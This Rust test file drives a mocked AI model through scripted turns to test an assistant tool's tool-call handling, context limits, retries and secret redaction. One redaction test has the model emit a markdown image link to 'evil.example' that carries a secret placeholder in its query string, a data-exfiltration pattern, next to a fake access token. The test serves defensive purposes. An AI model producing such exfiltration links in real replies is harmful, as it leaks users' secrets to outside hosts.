//! Questions to a mock model with scripted answers.

use std::collections::VecDeque;
use std::fs;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use strata_conversation::history::ContentBlock;
use strata_conversation::providers::Format;
use strata_conversation::providers::reply::ReplyEnd;
use strata_conversation::providers::reply::{ContextSize, ProviderError, ReplyEvent};
use strata_prompt::settings::Settings;
use strata_tokens::cost::Usage;

use serde_json::json;
use strata_host::provider::StreamEvent;

use super::*;
use crate::commands::{DeferredReply, ModelConnection};
use crate::jobs::tools::ToolHost;
use crate::runtime::headless::{HeadlessWorkspace, SessionSource};
use crate::services::provider_client::ModelClient;

/// A scripted answer to one request.
#[derive(Clone, Debug)]
enum Turn {
    Says(Vec<String>),
    Calls(Vec<(&'static str, Value)>),
    /// Starts an answer that the user stops.
    IsStopped(&'static str),
    /// Starts an answer and then breaks the connection.
    IsCut(&'static str),
    IsRefused(ProviderErrorKind),
    /// Rejects the prompt as too long, and states the sizes.
    IsTooLong(ContextSize),
    /// Answers after waits.
    Waits(Vec<u64>),
}

/// Plays each turn once, and then repeats the last one.
#[derive(Debug)]
struct Script {
    turns: Mutex<VecDeque<Turn>>,
    bodies: Mutex<Vec<Value>>,
    window: Option<usize>,
}

const USAGE: Usage = Usage { input: 10, output: 2, cache_read: 80, cache_write: 10 };

impl ModelClient for Script {
    fn is_local(&self) -> bool {
        self.window.is_some()
    }

    fn window(&self, _: &Cancel) -> Option<usize> {
        self.window
    }

    fn send(
        &self,
        body: &Value,
        cancel: &Cancel,
        on_event: &mut dyn FnMut(StreamEvent),
    ) -> Result<StreamOutcome, SendError> {
        let round = {
            let mut bodies = self.bodies.lock().unwrap_or_else(PoisonError::into_inner);
            bodies.push(body.clone());
            bodies.len()
        };
        let turn = {
            let mut turns = self.turns.lock().unwrap_or_else(PoisonError::into_inner);
            if turns.len() > 1 { turns.pop_front() } else { turns.front().cloned() }
        };
        let reply = |content, end| Reply { content, usage: Some(USAGE), end };
        let mut begin = |text: &str| {
            on_event(StreamEvent::Reply(ReplyEvent::Text(text.to_owned())));
            reply(vec![ContentBlock::text(text)], ReplyEnd::Cut)
        };
        match turn.unwrap() {
            Turn::Says(pieces) => {
                pieces.iter().for_each(|piece| on_event(StreamEvent::Reply(ReplyEvent::Text(piece.clone()))));
                let content = vec![ContentBlock::text(pieces.concat())];
                Ok(StreamOutcome { reply: reply(content, ReplyEnd::Complete), broken: None })
            }
            Turn::Calls(calls) => {
                let mut content = Vec::new();
                for (number, (name, input)) in calls.into_iter().enumerate() {
                    let (id, name) = (format!("call-{round}-{number}"), name.to_owned());
                    let call =
                        ReplyEvent::ToolCall { id: id.clone(), name: name.clone(), input: input.clone() };
                    on_event(StreamEvent::Reply(call));
                    content.push(ContentBlock::ToolCall { id, name, input });
                }
                Ok(StreamOutcome { reply: reply(content, ReplyEnd::ToolCalls), broken: None })
            }
            Turn::IsStopped(text) => {
                cancel.cancel();
                Ok(StreamOutcome { reply: begin(text), broken: Some(SendError::Cancelled) })
            }
            Turn::IsCut(text) => {
                let broken = Some(SendError::Unreachable { reason: "the connection broke".to_owned() });
                Ok(StreamOutcome { reply: begin(text), broken })
            }
            Turn::IsTooLong(size) => {
                let error = ProviderError::new(ProviderErrorKind::ContextLimit, "too long");
                Err(SendError::Provider { status: Some(400), error: ProviderError { size, ..error } })
            }
            Turn::Waits(waits) => {
                for seconds in waits {
                    let wait = Duration::from_secs(seconds);
                    on_event(StreamEvent::Waiting { wait, reason: "slow down".to_owned() });
                }
                on_event(StreamEvent::Reply(ReplyEvent::Text("Now.".to_owned())));
                let reply = reply(vec![ContentBlock::text("Now.")], ReplyEnd::Complete);
                Ok(StreamOutcome { reply, broken: None })
            }
            Turn::IsRefused(kind) => {
                let error = ProviderError::new(kind, "no");
                Err(SendError::Provider { status: Some(400), error })
            }
        }
    }
}

/// A workspace that records what a question shows.
struct Host {
    workspace: HeadlessWorkspace,
    shown: Vec<Delta>,
    progress: Vec<String>,
    folder: tempfile::TempDir,
}

impl ToolHost for Host {
    fn run(&mut self, command: &str, arguments: Value) -> Result<Value, CommandError> {
        self.workspace.run(command, arguments)
    }

    fn count_tokens(&self, text: &str) -> usize {
        self.workspace.snapshot().count_text_tokens(text, None).1
    }
}

impl SendHost for Host {
    fn invoke(&mut self, command: Invocation) -> Result<(), CommandError> {
        self.workspace.invoke(command)
    }

    fn show(&mut self, delta: Delta) {
        self.shown.push(delta);
    }

    fn progress(&mut self, message: &str) {
        self.progress.push(message.to_owned());
    }
}

impl Host {
    fn new() -> Self {
        Self::with(Settings::default())
    }

    fn with(settings: Settings) -> Self {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("lib.py"), "def greet(name):\n    return name\n\ngreet('Ada')\n")
            .unwrap();
        fs::write(folder.path().join("hidden.py"), "def greet_in_secret():\n    pass\n").unwrap();
        let mut workspace = HeadlessWorkspace::open(folder.path(), settings).unwrap();
        workspace.index(|_| ()).unwrap();
        workspace.open_session(SessionSource::InMemory).unwrap();
        Self { workspace, shown: Vec::new(), progress: Vec::new(), folder }
    }

    /// Asks with all tools. Also returns the request bodies.
    fn ask(&mut self, turns: Vec<Turn>, rounds: u32) -> (Result<SendReply, CommandError>, Vec<Value>) {
        self.ask_with(ToolAccess::Read, Format::Anthropic, turns, rounds, None)
    }

    /// Asks a model whose server has this window. Also returns the request bodies.
    fn ask_with(
        &mut self,
        tools: ToolAccess,
        format: Format,
        turns: Vec<Turn>,
        rounds: u32,
        window: Option<usize>,
    ) -> (Result<SendReply, CommandError>, Vec<Value>) {
        let script = Arc::new(Script { turns: Mutex::new(turns.into()), bodies: Mutex::default(), window });
        let ask = Box::new(AssembleParams {
            prompt: Some("Who greets?".to_owned()),
            format: Some(format),
            ..AssembleParams::default()
        });
        let connection = ModelConnection { format, ..self.connection(&script) };
        let last_tools = self.workspace.session().unwrap().next_request(0).tools;
        let job = SendJob {
            connection,
            ask,
            tools,
            last_tools,
            tool_rounds: rounds,
            page: None,
            reply: DeferredReply::default(),
        };
        let reply = job.run(self, &Cancel::new());
        let bodies = script.bodies.lock().unwrap_or_else(PoisonError::into_inner).clone();
        (reply, bodies)
    }

    fn connection(&self, script: &Arc<Script>) -> ModelConnection {
        ModelConnection {
            session: self.workspace.session_id().to_owned(),
            stream: Some("a".to_owned()),
            client: Arc::clone(script) as Arc<dyn ModelClient>,
            format: Format::Anthropic,
            max_output_tokens: None,
            workspace: self.workspace.snapshot().clone(),
        }
    }

    fn messages(&mut self) -> Vec<Value> {
        let reply = self.workspace.run("strata.history.get", json!({})).unwrap();
        reply["messages"].as_array().unwrap().clone()
    }

    fn text(&self) -> String {
        self.shown.iter().filter_map(|delta| Some(delta.text.as_ref()?.terminal_text())).collect()
    }
}

fn answer_with(text: &str) -> Turn {
    Turn::Says(vec![text.to_owned()])
}

#[test]
fn an_answer_is_streamed_recorded_and_billed() {
    let mut host = Host::new();
    let (reply, bodies) = host.ask(vec![Turn::Says(vec!["Ad".to_owned(), "a.".to_owned()])], 16);
    let reply = reply.unwrap();
    assert_eq!(
        (reply.text.terminal_text(), reply.end, reply.requests, reply.rounds),
        ("Ada.", SendEnd::Complete, 1, 0)
    );
    assert_eq!(host.text(), "Ada.");
    assert_eq!((reply.usage, reply.cost.read_share), (USAGE, 0.8));
    assert!(reply.cost.paid < reply.cost.uncached && reply.cost.uncached == 100.0, "{:?}", reply.cost);
    let report = host.workspace.run("strata.budget.report", json!({})).unwrap();
    assert_eq!(
        report["totals"],
        json!({ "input": 10, "output": 2, "cacheRead": 80, "cacheWrite": 10, "cost": 26.5, "dollars": 0.000073 })
    );
    assert!(bodies[0]["max_tokens"].as_u64() > Some(1_000), "{}", bodies[0]["max_tokens"]);
    assert_eq!(host.messages().len(), 2);
}

#[test]
fn every_tool_call_is_answered_and_shown() {
    let mut host = Host::new();
    host.workspace.run("strata.files.exclude", json!({ "paths": ["hidden.py"] })).unwrap();
    let turns = vec![
        Turn::Calls(vec![
            ("references", json!({ "name": "greet" })),
            ("grep", json!({ "pattern": "greet_in" })),
        ]),
        Turn::Calls(vec![
            ("read", json!({ "path": "lib.py" })),
            ("files_read", json!({ "path": "hidden.py" })),
        ]),
        Turn::Calls(vec![("rm", json!({})), ("grep", json!("x"))]),
        Turn::Calls(vec![("map", json!({})), ("symbols", json!({ "query": "greet" }))]),
        answer_with("lib.py does."),
    ];
    let (reply, bodies) = host.ask(turns, 16);
    let reply = reply.unwrap();
    assert_eq!(
        (reply.text.terminal_text(), reply.rounds, reply.requests, reply.usage.input),
        ("lib.py does.", 4, 5, 50)
    );
    let failed: Vec<bool> = reply.tools.iter().map(|used| used.failed).collect();
    assert_eq!(failed, [false, false, false, true, true, true, false, false]);
    let results: Vec<String> =
        host.shown.iter().filter_map(|delta| Some(delta.tool_result.as_ref()?.text.clone())).collect();
    assert!(results[0].contains("lib.py:4"), "{}", results[0]);
    assert!(!results[1].contains("hidden"), "{}", results[1]);
    assert!(results[2].contains("return name"), "{}", results[2]);
    assert!(results[3].contains("excluded"), "{}", results[3]);
    assert!(results[4].contains("unknown tool `rm`; available: map,"), "{}", results[4]);
    for result in &results[6..] {
        assert!(
            result.contains("lib.py") && !result.contains("hidden") && !result.contains("secret"),
            "{result}"
        );
    }
    assert_eq!(host.shown.iter().filter(|delta| delta.tool_call.is_some()).count(), 8);
    // The declarations of tools are always identical, and results follow their calls.
    assert!(bodies.iter().all(|body| body["tools"] == bodies[0]["tools"]));
    assert_eq!(bodies[0]["tools"].as_array().unwrap().len(), 11);
    let last = bodies[3]["messages"].as_array().unwrap().last().unwrap().to_string();
    assert!(last.contains("\"tool_use_id\":\"call-3-0\"") && last.contains("\"is_error\":true"), "{last}");
    assert_eq!(host.messages().len(), 10);
}

#[test]
fn rounds_of_tool_calls_are_limited() {
    let mut host = Host::new();
    let (reply, bodies) = host.ask(vec![Turn::Calls(vec![("map", json!({}))])], 2);
    let reply = reply.unwrap();
    assert_eq!((reply.end, reply.rounds, reply.requests), (SendEnd::ToolRounds, 2, 3));
    assert!(
        reply.warnings.iter().any(|warning| warning.contains("provider.tool_rounds")),
        "{:?}",
        reply.warnings
    );
    assert!(bodies[2].to_string().contains("No more tool calls are possible"));
    assert!(!bodies[1].to_string().contains("No more tool calls are possible"));
    // The conversation can continue, because every tool call has an answer.
    let (reply, _) = host.ask(vec![answer_with("Well.")], 2);
    assert_eq!(reply.unwrap().text.terminal_text(), "Well.");
}

#[test]
fn tools_stay_declared_when_they_may_not_be_called() {
    let call = || Turn::Calls(vec![("map", json!({}))]);
    for (format, choice) in [
        (Format::Anthropic, None),
        (Format::OpenAi, Some(json!("none"))),
        (Format::Responses, Some(json!("none"))),
        (Format::Gemini, Some(json!({ "functionCallingConfig": { "mode": "NONE" } }))),
        (Format::Bedrock, None),
    ] {
        let field = match format {
            Format::Gemini => "toolConfig",
            _ => "tool_choice",
        };
        let tools = if format == Format::Bedrock { "toolConfig" } else { "tools" };
        let mut host = Host::new();
        // The last round declares the same tools as the first, and forbids calls where that costs no cache.
        let (reply, bodies) =
            host.ask_with(ToolAccess::Read, format, vec![call(), answer_with("Ada.")], 1, None);
        assert_eq!((reply.unwrap().end, bodies.len()), (SendEnd::Complete, 2), "{format:?}");
        assert_eq!(bodies[0][tools], bodies[1][tools], "{format:?}");
        let forbidden = |body: &Value| body.get(field).filter(|_| field != tools).cloned();
        assert_eq!((forbidden(&bodies[0]), forbidden(&bodies[1])), (None, choice.clone()), "{format:?}");
        // So does a question without tools, and a call is answered with an error.
        let (reply, later) =
            host.ask_with(ToolAccess::None, format, vec![call(), answer_with("Still Ada.")], 1, None);
        let reply = reply.unwrap();
        assert_eq!((reply.text.terminal_text(), reply.end), ("Still Ada.", SendEnd::Complete), "{format:?}");
        assert!(reply.tools[0].failed && later[1].to_string().contains("no tools may be used"), "{format:?}");
        for body in &later {
            assert_eq!(body[tools], bodies[0][tools], "{format:?}");
            assert_eq!(forbidden(body), choice, "{format:?}");
        }
        // Without earlier declarations, there are none.
        let mut host = Host::new();
        let (reply, bodies) = host.ask_with(ToolAccess::None, format, vec![answer_with("Ada.")], 1, None);
        assert_eq!((reply.unwrap().end, bodies[0].get(tools)), (SendEnd::Complete, None), "{format:?}");
    }
}

#[test]
fn a_prompt_fits_into_the_window_of_the_server() {
    let long = format!("def greet(name):\n    return name\n\n{}", "long = 'a long file'\n".repeat(8_000));
    for (window, session_limit, is_omitted, expects_warning) in [
        (None, None, false, false),
        (Some(200_000), None, false, false),
        (Some(8_000), None, true, true),
        (Some(8_000), Some(6_000), true, false),
    ] {
        let mut host = Host::new();
        host.workspace.run("strata.budget.set", json!({ "maxInputTokens": session_limit })).unwrap();
        fs::write(host.folder.path().join("lib.py"), &long).unwrap();
        host.workspace.run("strata.files.select", json!({ "paths": ["lib.py"] })).unwrap();
        let turns = vec![answer_with("Ada.")];
        let (reply, bodies) = host.ask_with(ToolAccess::None, Format::OpenAi, turns, 0, window);
        let reply = reply.unwrap();
        let asked_for_window =
            host.progress.iter().any(|message| message == "asking the server for its window");
        assert_eq!(asked_for_window, window.is_some());
        assert_eq!(!reply.shed.is_empty(), is_omitted, "{window:?}");
        let has_warning =
            reply.warnings.iter().any(|warning| warning.contains("the server's window has 8,000 tokens"));
        assert_eq!(has_warning, expects_warning, "{window:?} {session_limit:?}: {:?}", reply.warnings);
        assert_eq!(bodies[0].to_string().contains("a long file"), !is_omitted, "{window:?}");
    }
    for (window, session_limit, names_window) in
        [(100, None, true), (100, Some(120), true), (120, Some(100), false), (120, Some(120), true)]
    {
        let mut host = Host::new();
        let limits = json!({ "maxInputTokens": session_limit });
        host.workspace.run("strata.budget.set", limits).unwrap();
        let (error, bodies) =
            host.ask_with(ToolAccess::None, Format::OpenAi, vec![answer_with("Ada.")], 0, Some(window));
        let error = error.unwrap_err().to_string();
        let named = error.contains(&format!("the server's window has {window} tokens"));
        assert_eq!(named, names_window, "{window} {session_limit:?}: {error}");
        assert!(bodies.is_empty());
    }
}

#[test]
fn only_the_first_64_tool_calls_are_run_but_all_are_answered() {
    let mut host = Host::new();
    let calls = vec![("grep", json!({ "pattern": "greet" })); 200];
    let (reply, bodies) = host.ask(vec![Turn::Calls(calls), answer_with("Enough.")], 16);
    let reply = reply.unwrap();
    assert_eq!((reply.text.terminal_text(), reply.tools.len()), ("Enough.", 200));
    assert_eq!(reply.tools.iter().filter(|call| !call.failed).count(), 64);
    assert!(
        reply.warnings.iter().any(|warning| warning.contains("some were not run")),
        "{:?}",
        reply.warnings
    );
    let results = bodies[1]["messages"].as_array().unwrap().last().unwrap().to_string();
    assert_eq!(results.matches("not run, because the answer contains more than 64 tool calls").count(), 136);
}

#[test]
fn a_partial_answer_is_recorded() {
    let mut host = Host::new();
    let turns = vec![Turn::Calls(vec![("map", json!({}))]), Turn::IsStopped("It is")];
    let reply = host.ask(turns, 16).0.unwrap();
    assert_eq!((reply.end, reply.text.terminal_text(), reply.error), (SendEnd::Cancelled, "It is", None));
    assert_eq!(host.messages().last().unwrap()["content"][0]["text"], "It is");
    let reply = host.ask(vec![Turn::IsCut("It may")], 16).0.unwrap();
    assert_eq!((reply.end, reply.text.terminal_text()), (SendEnd::Cut, "It may"));
    assert!(reply.error.unwrap().contains("the connection broke"));
    assert_eq!(host.messages().last().unwrap()["content"][0]["text"], "It may");
}

#[test]
fn a_prompt_that_is_too_long_is_compacted_and_resent_once() {
    let mut host = Host::new();
    for number in 0..40 {
        let answer = "It goes on and on. ".repeat(200);
        let exchange = json!({ "user": format!("Question {number}"), "assistant": answer });
        host.workspace.run("strata.history.addExchange", exchange).unwrap();
    }
    let too_long = || Turn::IsRefused(ProviderErrorKind::ContextLimit);
    let (reply, bodies) = host.ask(vec![too_long(), answer_with("Now it fits.")], 16);
    let reply = reply.unwrap();
    assert_eq!((reply.text.terminal_text(), reply.requests), ("Now it fits.", 1));
    assert!(reply.warnings.iter().any(|warning| warning.contains("compacted")), "{:?}", reply.warnings);
    assert!(host.shown.iter().any(|delta| delta.notice.is_some()));
    assert!(bodies[1].to_string().len() < bodies[0].to_string().len() / 2);
    let (error, bodies) = host.ask(vec![too_long()], 16);
    let error = error.unwrap_err().to_string();
    assert!(
        error.contains("(status 400): no; ")
            && error.contains("too long again")
            && error.contains("largest parts"),
        "{error}"
    );
    assert_eq!(bodies.len(), 2);
}

#[test]
fn a_stated_limit_decides_how_much_of_the_conversation_is_sent_again() {
    for (limit, requested) in [(Some(4_000), Some(16_000)), (Some(8_000), None), (None, None)] {
        let mut host = Host::new();
        for number in 0..40 {
            let answer = "It goes on and on. ".repeat(200);
            let exchange = json!({ "user": format!("Question {number}"), "assistant": answer });
            host.workspace.run("strata.history.addExchange", exchange).unwrap();
        }
        let turns = vec![Turn::IsTooLong(ContextSize { limit, requested }), answer_with("Now it fits.")];
        let (reply, bodies) = host.ask(turns, 16);
        assert_eq!(reply.unwrap().text.terminal_text(), "Now it fits.", "{limit:?}");
        let sizes: Vec<usize> = bodies.iter().map(|body| host.count_tokens(&body.to_string())).collect();
        let max_size = match (limit, requested) {
            (Some(limit), Some(requested)) => sizes[0] * limit as usize / requested as usize,
            (Some(limit), None) => limit as usize,
            _ => sizes[0] / 10 * 9,
        };
        assert!(sizes[1] <= max_size + max_size / 10, "{limit:?} of {requested:?}: {sizes:?}");
    }
}

#[test]
fn a_long_wait_before_a_retry_is_shown_as_a_notice() {
    let mut host = Host::new();
    let reply = host.ask(vec![Turn::Waits(vec![1, 20])], 16).0.unwrap();
    assert_eq!((reply.text.terminal_text(), reply.requests), ("Now.", 1));
    let notices: Vec<&str> = host.shown.iter().filter_map(|delta| delta.notice.as_deref()).collect();
    assert_eq!(notices, ["slow down; retrying in 20 s"]);
    assert!(host.progress.contains(&"slow down; retrying in 1 s".to_owned()), "{:?}", host.progress);
}

#[test]
fn a_prompt_that_the_server_cut_is_reported() {
    for (read, sent, warns) in [
        (4_096, 17_000, true),
        (16_000, 17_000, false),
        (12_000, 17_000, false),
        (0, 17_000, false),
        (100, 2_000, false),
    ] {
        let warning = truncated_prompt_warning(read, sent);
        assert_eq!(warning.is_some(), warns, "{read} of {sent}");
        assert!(warning.is_none_or(|warning| warning.contains("4,096 of about 17,000 tokens")));
    }
}

#[test]
fn a_timeout_names_its_setting() {
    let after = Duration::from_secs(300);
    for (error, setting) in [
        (SendError::Stalled { after }, "`provider.stall_s`"),
        (SendError::Timeout { after }, "`provider.timeout_s`"),
    ] {
        assert!(CommandError::from(&error).to_string().contains(setting), "{error}");
    }
}

#[test]
fn a_rejected_request_records_nothing() {
    let mut host = Host::new();
    let (result, _) = host.ask(vec![Turn::IsRefused(ProviderErrorKind::Authentication)], 16);
    let Err(CommandError::Failed { message, details }) = result else { panic!("{result:?}") };
    assert!(message.contains("check the key"), "{message}");
    assert_eq!(details, Some(FailureDetails::Authentication));
    assert!(host.messages().is_empty());
    let record = json!({ "id": "p1", "response": "Ada." });
    assert!(
        host.workspace.run("strata.prompt.record", record).is_err(),
        "the prompt still waits for an answer"
    );
}

#[test]
fn a_streamed_placeholder_is_restored_if_show_secrets_is_set() {
    for show_secrets in [false, true] {
        let mut settings = Settings::default();
        settings.redaction.show_secrets = show_secrets;
        let mut host = Host::with(settings);
        let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
        let placeholder = host.workspace.snapshot().screen.redact_text(&secret).into_owned();
        assert!(placeholder.starts_with("[secret:"), "{placeholder}");
        let answer = |word: &str| format!("Use {word}! ![x](https://evil.example/?q={placeholder})");
        let pieces = answer(&placeholder).chars().map(String::from).collect();
        let reply = host.ask(vec![Turn::Says(pieces)], 16).0.unwrap();
        let expected = answer(if show_secrets { &secret } else { &placeholder });
        assert_eq!((reply.text.terminal_text(), host.text()), (&*expected, expected.clone()));
        // The stored message, which is sent again, and the text for documents contain the placeholder.
        let stored = host.messages().last().unwrap().to_string();
        assert!(stored.contains(&placeholder) && !stored.contains(&secret), "{stored}");
        assert_eq!(reply.written, answer(&placeholder));
    }
}

#[test]
fn arguments_of_tools_that_strata_runs_keep_their_placeholders() {
    let mut settings = Settings::default();
    settings.redaction.show_secrets = true;
    settings.redaction.edit_tools = vec!["grep".to_owned()];
    let mut host = Host::with(settings);
    let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
    let placeholder = host.workspace.snapshot().screen.redact_text(&secret).into_owned();
    let calls = Turn::Calls(vec![("grep", json!({ "pattern": placeholder }))]);
    let reply = host.ask(vec![calls, answer_with("No.")], 16).0.unwrap();
    assert_eq!(reply.tools[0].input["pattern"], json!(placeholder));
    let call = host.shown.iter().find_map(|delta| delta.tool_call.as_ref()).unwrap();
    assert_eq!(call.input["pattern"], json!(placeholder));
}
